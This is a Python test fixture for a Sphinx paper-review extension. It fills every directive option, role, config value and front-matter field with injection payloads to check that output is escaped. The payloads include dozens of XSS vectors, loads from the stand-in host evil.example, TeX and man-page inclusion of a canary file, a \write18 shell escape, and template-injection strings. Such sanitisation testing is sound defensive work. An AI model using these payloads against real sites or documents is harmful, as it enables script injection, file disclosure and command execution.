"""A journal in which everything that may hold text holds an attack.

Options come from the directives' own tables, so that a new one is attacked as soon as it is there.
What would run sets ``window.PWN``; what asks another host asks `EVIL`; what reads a file reads
`CANARY`. Each text has a word of its own, `word(name)`, which no output may lose.
"""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator, Mapping
from pathlib import Path

import yaml

from sphinx_paperreview.authoring.chart import PaperChart
from sphinx_paperreview.authoring.directive import RawDirective
from sphinx_paperreview.authoring.listing import PaperList
from sphinx_paperreview.authoring.mentions import PaperMentions
from sphinx_paperreview.authoring.overview import PaperOverview
from sphinx_paperreview.authoring.paper import PaperDirective
from sphinx_paperreview.authoring.posts import PaperPosts
from sphinx_paperreview.config import Settings
from tests.site import Site

EVIL = "evil.example"
CANARY = "CANARYCONTENT"
"""What the file holds that attacks would show; it lies beside the folder of sources."""

_RUN = "window.PWN=1"
_FILE = "../canary.txt"
_HREF = f"\\href{{javascript:{_RUN}}}{{x}}"

ATTACKS = {
    "script": f"<script>{_RUN}</script>",
    "script-upper": f"<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>",
    "script-close": f"</script><script>{_RUN}</script>",
    "script-module": f'<script type=module>import "//{EVIL}/x.js"</script>',
    "import-map": f'<script type=importmap>{{"imports":{{"a":"//{EVIL}/a.js"}}}}</script>',
    "template-close": f"</template></style></title></textarea><script>{_RUN}</script>",
    "attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "attribute-single": f"' onclick='{_RUN}' x='",
    "attribute-backtick": f"` onclick=`{_RUN}` x=`",
    "attribute-entity": f"&quot; onclick=&quot;{_RUN}&quot;",
    "attribute-slash": f"x/onclick={_RUN}//",
    "image": f"<img src=x onerror={_RUN}>",
    "image-set": f"<img srcset='//{EVIL}/x.png 1x' src=//{EVIL}/y.png>",
    "picture": f"![x](https://{EVIL}/x.png)",
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    "svg-use": f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>'></svg>",
    "math": f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
    "iframe": f"<iframe srcdoc='<script>top.PWN=1</script>' src=//{EVIL}></iframe>",
    "object": f"<object data=//{EVIL}/x.swf><embed src=//{EVIL}/x.swf>",
    "base": f"<base href=//{EVIL}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "link": f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "style": f"<style>@import '//{EVIL}/x.css'; * {{ background: url(//{EVIL}/x.png) }}</style>",
    "style-value": f"red;background:url(//{EVIL}/x.png);width:expression({_RUN})",
    "form": f"<form action=javascript:{_RUN}><button formaction=javascript:{_RUN}>x</button>",
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "comment": f"<!-- --><script>{_RUN}</script><!--",
    "comment-open": f"<!--><script>{_RUN}</script>",
    "cdata": f"<![CDATA[ ]]><script>{_RUN}</script>",
    "instruction": f"<?xml-stylesheet href='//{EVIL}/x.xsl'?><!DOCTYPE x SYSTEM '{_FILE}'>",
    "json": f'"}}]}}; {_RUN}; //',
    "json-ends": f"\\u2028{_RUN}\\u2029\\u0022;{_RUN}//",
    "line-ends": f"a\u2028{_RUN}\u2029b\x85c",
    "link-script": f"[x](javascript:{_RUN}) <javascript:{_RUN}>",
    "link-cases": f"[x](JaVa&#115;cript:{_RUN}) [y](&#1;javascript:{_RUN})",
    "link-data": f"[x](data:text/html,<script>{_RUN}</script>) [y](vbscript:{_RUN})",
    "address": f"javascript:{_RUN}",
    "address-slashes": f"javascript://x%0a{_RUN}",
    "address-data": f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdOPTE8L3NjcmlwdD4=#{_RUN}",
    "address-quote": f"https://example.org/'\"><script>{_RUN}</script>",
    "tex-href": f"$\\href{{javascript:{_RUN}}}{{n^2}}$",
    "tex-style": f"$\\style{{background:url(https://{EVIL}/x.png)}}{{x}}$",
    "tex-class": "$\\require{html}\\class{x}{\\cssId{search}{\\unicode{x41}}}$",
    "tex-text": f"\\({_HREF}\\) \\[x\\] $${_HREF}$$",
    "tex-begin": f"\\begin{{align}}{_HREF}\\end{{align}}",
    "tex-file": f"\\input{{{_FILE}}} \\verbatiminput{{{_FILE}}} \\immediate\\write18{{id}}",
    "tex-codes": f"^^5cinput{{{_FILE}}} \\csname input\\endcsname{{{_FILE}}} \\catcode`\\%=12",
    "tex-signs": "} { # & ~ _ ^ % \\",
    "tex-end": "\\end{document} \\def\\par{x} \\special{x} $a_b^c$ % x",
    "man": "\\fB.so ../canary.txt\\n .TH x",
    "texinfo": "@include ../canary.txt @end ifinfo @{ @} @bye",
    "template": "{{ 7*7 }} {% x %} ${7*7} #{7*7} <%= 7*7 %> %(x)s {0.__class__}",
    "role": f"{{raw}}`<script>{_RUN}</script>` {{download}}`x <{_FILE}>` {{unknown}}`x`",
    "directives": f"```{{raw}} html <script>{_RUN}</script>``` ::: {{include}} {_FILE}",
    "rst": f"`x <javascript:{_RUN}>`__ :raw:`x` |x| x_ ``x .. raw:: html",
    "bidi": "a\u202e\u2066gnirts\u202c\u200f\u200b\ufeff b",
    "controls": "a\x00b\x07c\x1bd\x7f\x9be\ufffe",
    "letters": "\U0001f4a9 ａ\u0301\u0301\u0301 \ufdfa İıſ",
    "long": "x" * 500,
}
"""Each as one line; ``window.PWN`` is what a page must not have."""

DIRECTIVES: Mapping[str, type[RawDirective]] = {
    "paper": PaperDirective,
    "paper:list": PaperList,
    "paper:posts": PaperPosts,
    "paper:overview": PaperOverview,
    "paper:mentions": PaperMentions,
    "paper:chart": PaperChart,
}
ROLES = ("paper", "paper:paper", "paper:org", "paper:tag")

_PER_PAGE = 6


def word(name: str) -> str:
    """Give the word that stands behind an attack, in small letters and digits."""
    return f"w{[*ATTACKS].index(name):02}w"


def _text(name: str) -> str:
    return f"{ATTACKS[name]} {word(name)}"


def _fenced(name: str, argument: str, options: Mapping[str, str], body: str = "") -> str:
    lines = [f":{key}: {value}" for key, value in options.items()]
    return "\n".join([f":::::{{{name}}} {argument}", *lines, "", body, ":::::", ""])


def _review(number: int, name: str) -> str:
    """Write a review of which every option is an attack, and one that is listed well."""
    text = _text(name)
    options = dict.fromkeys(PaperDirective.known_options, text)
    del options["no-index"]
    good = {"title": f"Formula $a^2$ {text}", "org": text, "tags": text, "venue": f"{text} 2025"}
    return (
        _fenced("paper", f"2511.{number:05}", options, f"Body of {word(name)}.")
        + _fenced("paper", f"2512.{number:05}", {**good, "date": "2025-01-02", "authors": text})
        + _fenced("paper", text, {"title": text})
    )


def _plain_headings() -> str:
    """Write a page of plain headings with an attack for a title, where it ends no link or code."""
    ends = ("`", "[", "]", "<!--")
    names = [name for name, text in ATTACKS.items() if not any(one in text for one in ends)]
    headings = (
        f"## [{_text(name)}](https://arxiv.org/abs/2510.{number:05}) `{_text(name)}`\n\nBody.\n"
        for number, name in enumerate(names, 1)
    )
    return "\n".join(["---", "paperreview: all-orgs", "---", "# Plain $a^2$\n", *headings])


def _listings(name: str) -> str:
    text = _text(name)
    written = [
        _fenced(directive, text, dict.fromkeys(table.known_options, text) | {"limit": "1"})
        for directive, table in DIRECTIVES.items()
        if directive != "paper"
    ]
    quoted = text.replace("`", "'")  # it would end the role
    roles = [f"{{{role}}}`{quoted}` {{{role}}}`{quoted} <{quoted}>`" for role in ROLES]
    return "".join(written) + "\n\n".join(roles) + "\n"


def _unlimited(name: str, number: int) -> str:
    """Write a listing whose limit is an attack: it shows all, so one a page is enough."""
    listings = [directive for directive in DIRECTIVES if directive != "paper"]
    return _fenced(listings[number % len(listings)], "", {"limit": _text(name)})


def _front(names: list[str]) -> str:
    """Put attacks into every field that front matter may have, as text and as a list."""
    keys = [*PaperDirective.known_options, "author", "description", "arxiv", "doi"]
    fields: dict[str, object] = {
        key: _plain(_text(names[number % len(names)])) for number, key in enumerate(keys)
    }
    fields |= {"date": "2025-11-27", "tags": [_plain(_text(name)) for name in names]}
    return f"---\n{yaml.safe_dump(fields, allow_unicode=True)}---\n"


def _plain(text: str) -> str:
    return "".join(letter for letter in text if letter.isprintable())


def _pages() -> Iterator[tuple[str, str]]:
    names = [*ATTACKS]
    for first in range(0, len(names), _PER_PAGE):
        some = names[first : first + _PER_PAGE]
        reviews = "".join(_review(first + number, name) for number, name in enumerate(some))
        listings = "".join(map(_listings, some)) + _unlimited(some[0], first // _PER_PAGE)
        yield f"p{first:02}.md", f"{_front(some)}# Post $a^2$\n\n{reviews}\n{listings}"
    yield "plain.md", _plain_headings()
    styles = (
        _fenced("paper:list", "", {"style": style, "filter": "", "columns": "title, org, tags"})
        for style in ("list", "table", "cards")
    )
    others = (_fenced(name, "", {}) for name in DIRECTIVES if name not in ("paper", "paper:list"))
    yield "all.md", "# All $a^2$\n\n" + "".join((*styles, *others))


def _registry() -> str:
    """Write a table of organisations of which every value is an attack."""
    entries = []
    for number, name in enumerate(ATTACKS):
        text = _plain(_text(name))
        values = {"name": f"Org {text}", "aliases": [text], "url": text, "color": text}
        values |= {"logo": text, "parent": text}
        lines = [f"{key} = {json.dumps(value)}" for key, value in values.items()]
        entries += [f"[org{number}]", *lines, ""]
    return "\n".join(entries)


def _conf() -> str:
    names = [*ATTACKS]
    settings = [field.name for field in dataclasses.fields(Settings)]
    values: dict[str, object] = {
        f"paperreview_{setting}": _text(names[number % len(names)])
        for number, setting in enumerate(settings)
        if setting not in ("orgs", "pages", "page_kinds", "source_definitions", "myst_extensions")
    }
    sources = {
        f"s{number}": {"label": _text(name), "urls": {"arxiv": "https://example.org/{value}"}}
        for number, name in enumerate(ATTACKS)
    }
    values["paperreview_source_definitions"] = sources
    values["paperreview_sources"] = ["arxiv", *sources, *map(_text, ATTACKS)]
    values["paperreview_tags"] = values["paperreview_venues"] = [*map(_text, ATTACKS)]
    return "".join(f"{key} = {value!r}\n" for key, value in values.items())


def attacked(folder: Path, conf: str = "") -> Site:
    """Write the journal of attacks."""
    index = "# Home\n\nWords $a^2$.\n\n```{toctree}\n:glob:\n\nall\np*\n```\n"
    pages = {"index.md": index, "orgs.toml": _registry(), **dict(_pages())}
    (folder / "canary.txt").write_text(CANARY)
    head = 'version = copyright = "1"\n'
    return Site(folder / "source", pages, head + _conf() + conf)
